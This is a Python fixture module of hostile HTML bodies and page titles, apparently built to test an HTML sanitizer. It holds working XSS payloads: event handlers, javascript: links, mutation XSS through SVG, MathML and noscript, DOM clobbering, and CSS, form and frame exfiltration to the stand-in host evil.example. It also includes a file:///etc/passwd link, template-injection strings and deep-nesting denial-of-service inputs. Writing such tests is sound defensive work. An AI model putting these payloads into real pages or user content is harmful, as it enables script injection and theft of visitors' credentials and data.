"""Bodies that want to do more than be read; tests import them by name. All of our own making."""

from __future__ import annotations

LONG = "<table>" + "<tr>" + "<td colspan=999>cell</td>" * 60 + "</tr>" + "</table>"

# Each says "the end" where its words can be read at all.
BODIES = {
    "script": "<script>alert(1)</script><script src=//evil.example/x.js></script>the end",
    "handlers": '<p onclick="alert(1)" onmouseover="alert(1)" onfocus=alert(1) tabindex=0 autofocus>the end',
    "picture that fails": "<img src=x onerror=alert(1)><img src=//evil.example/x onload=alert(1)>the end",
    "javascript links": '<a href="javascript:alert(1)">the</a> <a href="&#106;avascript&colon;alert(1)">end</a>',
    "data links": '<a href="data:text/html,<script>alert(1)</script>">the end</a>',
    "vbscript and files": '<a href="vbscript:x">a</a><a href="file:///etc/passwd">the end</a>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x /></svg>the end",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><use href="//evil.example/x#y"/></svg>the end',
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>the end",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>the end',
    "mutation by style in math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">the end',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>the end',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>the end",
    "mutation by select": "<select><template><img src=x onerror=alert(1)></template></select>the end",
    "mutation by cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>the end",
    "mutation by textarea": '<textarea></textarea><div title="</textarea><img src=x onerror=alert(1)>">the end</div>',
    "mutation by table": '<table><caption><svg><title><table></table><img src=x onerror=alert(1)></title></svg></caption></table>the end',
    "tags in values": '<a title="<table><img src=x onerror=alert(1)><h1>" href="https://ok.example/">the end</a>',
    "closes our page": "</div></article></main></body></html><script>alert(1)</script>the end",
    "closes our comment": "--><!--><script>alert(1)</script>--!>the end",
    "style sheet": "<style>@import '//evil.example/x.css';body{background:url(//evil.example/b)}</style>the end",
    "style leak": '<style>input[name=mark][value^=a]{background:url(//evil.example/a)}</style><p style="background:url(//evil.example/c);position:fixed;inset:0">the end',
    "linked style": "<link rel=stylesheet href=//evil.example/x.css><link rel=preload as=script href=//evil.example/y>the end",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example/"><meta http-equiv=Content-Security-Policy content="script-src *">the end',
    "base": "<base href=//evil.example/><a href=/x>the end</a>",
    "form": '<form action=//evil.example/ method=post><input name=password autofocus><button formaction="javascript:alert(1)">the end</button></form>',
    "frames": '<iframe src=//evil.example/></iframe><object data=//evil.example/x></object><embed src=//evil.example/y>the end',
    "sound and film": '<video src=//evil.example/v autoplay poster=//evil.example/p onerror=alert(1)></video><audio src=//evil.example/a autoplay></audio>the end',
    "picture sets": '<picture><source srcset="//evil.example/s 2x"><img srcset="//evil.example/t 1x" alt=x></picture>the end',
    "names that shadow ours": '<img name=getElementById><a id=keys>a</a><form id=all name=body><input name=action></form><a id=toast class=told data-item=1>the end</a>',
    "takes our keys": '<article data-item=1><button class=read name=do value="unsave 1">x</button></article><dialog open>the end</dialog>',
    "ping and target": '<a href="https://ok.example/" ping="//evil.example/p" target=_top rel=opener>the end</a>',
    "huge table": LONG + "the end",
    "one long word": "x" * 20_000 + " the end",
    "deep nesting": "<div><blockquote>" * 600 + "the end",
    "deep lists": "<ul><li><ol><li><dl><dd>" * 200 + "the end",
    "turned words": "<p>\u202e\u2066 dne eht <bdo dir=rtl>the end</bdo>",
    "custom elements": "<x-a onclick=alert(1)><slot name=x></slot>the end</x-a>",
    "event by details": "<details open ontoggle=alert(1)><summary>x</summary>the end</details>",
    "marquee": "<marquee onstart=alert(1) behavior=alternate>the end</marquee>",
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>the end",
}  # fmt: skip

TITLES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\u202emoc.live\u202c is safe",
    "</title><script>alert(1)</script>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "a" * 5_000,
)
